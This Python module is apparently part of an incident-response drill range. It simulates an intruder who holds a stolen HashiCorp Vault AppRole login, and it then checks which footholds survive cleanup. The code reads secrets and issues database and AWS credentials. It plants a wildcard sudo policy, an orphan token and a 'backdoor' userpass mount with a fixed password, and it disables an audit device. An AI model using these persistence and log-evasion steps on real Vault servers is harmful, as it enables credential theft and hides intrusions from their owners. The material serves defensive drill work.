"""The thief of a login to a Vault: what it takes and leaves there, and what works of it later."""

from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import hvac
from botocore.exceptions import ClientError
from hvac import exceptions

from playbooks.drills.range.keys import Credentials
from playbooks.drills.range.world import World
from playbooks.drills.robbed_vault import ARCHIVE, DELIVERED, Robbed, credentials

WIDE = 'path "*" { capabilities = ["create", "read", "update", "delete", "list", "sudo"] }'
# Who is refused, is told nothing more: of a login 400, of a token 403, of a mount that went 404.
SHUT = (exceptions.Forbidden, exceptions.InvalidRequest, exceptions.InvalidPath)
WIDE_NAME, TEAM, WORD = "metrics", "support", "the thief's own word"


@dataclass
class VaultThief:
    """Holds the login of `web`; over HTTP where the Vault has a URL, else in the process."""

    vault: Robbed
    aws: World
    tokens: dict[str, str] = field(default_factory=dict, repr=False)
    database: dict[str, Any] = field(default_factory=dict, repr=False)
    keys: dict[str, Credentials] = field(default_factory=dict, repr=False)
    theirs: str = field(default="", repr=False)
    ways: dict[str, Callable[[], bool]] = field(default_factory=dict, repr=False)

    def client(self, token: str = "") -> Any:
        """Return an hvac client, with whatever token."""
        if self.vault.url:
            return hvac.Client(url=self.vault.url, token=token)
        return self.vault.world.client(token)

    def take(self) -> None:
        """Log in, read secrets, and have credentials given out."""
        web, batch = self.vault.estate.apps
        self.theirs = self._log_in(batch.role_id, batch.secret_id)
        self.ways["log in with the stolen secret id"] = lambda: bool(
            self._log_in(web.role_id, web.secret_id)
        )
        token = self.tokens["the token of its login"] = self._log_in(web.role_id, web.secret_id)
        mine = self.client(token)
        secret = mine.read("secret/data/web/api")["data"]["data"]["key"]
        self.vault.secrets += [secret, web.secret_id, token]
        made = mine.read("database/creds/web")["data"]
        self.database["a database user"] = made
        self.keys["an AWS user"] = credentials(mine.read("aws/creds/deploy")["data"])
        self.keys["an AWS session"] = credentials(mine.write("aws/sts/reports", ttl="1h")["data"])
        if not self.vault.world.database(ARCHIVE).down:
            mine.read("database/creds/archive")
        self.vault.secrets += [made["password"], self.keys["an AWS user"].secret_key]

    def dig_in(self) -> None:
        """Leave ways back in, and put out one of the two eyes."""
        mine = self.client(self.tokens["the token of its login"])
        mine.sys.create_or_update_acl_policy(WIDE_NAME, WIDE)
        made = mine.auth.token.create(policies=["web", WIDE_NAME], no_parent=True, period="24h")
        orphan = self.tokens["an orphan token that it made"] = made["auth"]["client_token"]
        mine.sys.enable_auth_method("userpass", path="backdoor")
        mine.write(f"auth/backdoor/users/{TEAM}", password=WORD, token_policies=WIDE_NAME)
        self.ways["log in at a mount that it made"] = lambda: bool(self._backdoor())
        self.tokens["a token of that mount"] = self._backdoor()
        mine.sys.disable_audit_device("second")
        self.vault.secrets += [orphan]

    def can(self) -> dict[str, bool]:
        """Return, for each way that it has, whether it still leads in."""
        found = {name: _let_in(way) for name, way in self.ways.items()}
        for name, token in self.tokens.items():
            found[name] = _let_in(lambda token=token: self._reads(token))  # type: ignore[misc]
        server = self.vault.world.database(self.vault.estate.database)
        for name, one in self.database.items():
            found[name] = server.log_in(one["username"], one["password"])
        return found | {name: self._aws(key) for name, key in self.keys.items()}

    def neighbour(self) -> bool:
        """Return whether another application, that has its token from before, goes on."""
        return _let_in(
            lambda: bool(self.client(self.theirs).adapter.get("/v1/secret/data/batch/api"))
        )

    def works_anew(self) -> bool:
        """Return whether web's application logs in with what Vault holds for it now."""
        root = self.vault.root
        role = root.auth.approle.read_role_id("web")["data"]["role_id"]
        held = root.read(f"{DELIVERED.replace('/', '/data/', 1)}")["data"]["data"]["secret_id"]
        self.vault.secrets.append(held)
        return _let_in(lambda: self._reads(self._log_in(role, held)))

    def archive(self, down: bool) -> None:
        """Let the archive's database be out of order, or in order."""
        self.vault.world.database(ARCHIVE).down = down

    def _log_in(self, role_id: str, secret_id: str) -> str:
        answer = self.client().auth.approle.login(role_id, secret_id, use_token=False)
        return str(answer["auth"]["client_token"])

    def _backdoor(self) -> str:
        given = self.client().auth.userpass.login(
            TEAM, WORD, use_token=False, mount_point="backdoor"
        )
        return str(given["auth"]["client_token"])

    def _reads(self, token: str) -> bool:
        return bool(self.client(token).adapter.get("/v1/secret/data/web/api"))

    def _aws(self, key: Credentials) -> bool:
        try:
            self.aws.client("iam", key).list_users()
        except ClientError:
            return False
        return True


def _let_in(way: Callable[[], bool]) -> bool:
    try:
        return way()
    except SHUT:
        return False
